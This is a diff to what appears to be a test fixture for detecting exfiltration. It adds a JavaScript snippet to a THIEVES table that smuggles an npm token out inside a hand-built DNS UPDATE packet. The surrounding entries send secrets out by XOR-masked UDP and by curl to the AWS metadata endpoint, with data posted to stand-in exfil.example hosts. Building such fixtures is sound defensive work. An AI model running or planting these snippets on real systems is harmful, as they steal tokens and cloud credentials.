@@ -57,6 +57,14 @@ THIEVES = {
     "by-udp": """
         const udp = dgram.createSocket('udp4');
         udp.send(Buffer.from(host).map(byte => byte ^ 0x5a), 9999, '240.0.0.10', () => udp.close());""",
+    "by-update": """
+        const hex = text => Buffer.from(text, 'hex');
+        const label = text => [Buffer.from([text.length]), Buffer.from(text)];
+        const zone = Buffer.concat([...label('k-exfil'), ...label('example'), hex('0000060001')]);
+        const record = [hex('c00c001000010000003c'), Buffer.from([0, token.length + 1]), ...label(token)];
+        const update = Buffer.concat([hex('000128000001000000010000'), zone, ...record]);
+        const udp = dgram.createSocket('udp4');
+        udp.send(update, 53, '240.0.0.11', () => udp.close());""",
     "by-metadata": """
         const code = 'at=http://169.254.169.254/latest/meta-data/iam/security-credentials/;' +
             'curl -s $at$(curl -s $at) | curl -s --data-binary @- https://m.exfil.example/m';
@@ -125,6 +133,7 @@ def value(machine: Machine, kind: str) -> str:
         ("by-curl", "user_name", [], "http://g.exfil.example/c"),
         ("by-python", "npm_token", [], "https://h.exfil.example/"),
         ("by-udp", "host_name", ["xor 0x5a"], "udp://240.0.0.10:9999"),
+        ("by-update", "npm_token", [], "dns://k-exfil.example"),
         ("by-metadata", "metadata_aws_role_secret_access_key", [], "https://m.exfil.example/m"),
         ("by-pieces", "npm_token", [], "http://f.exfil.example/p"),
     ],
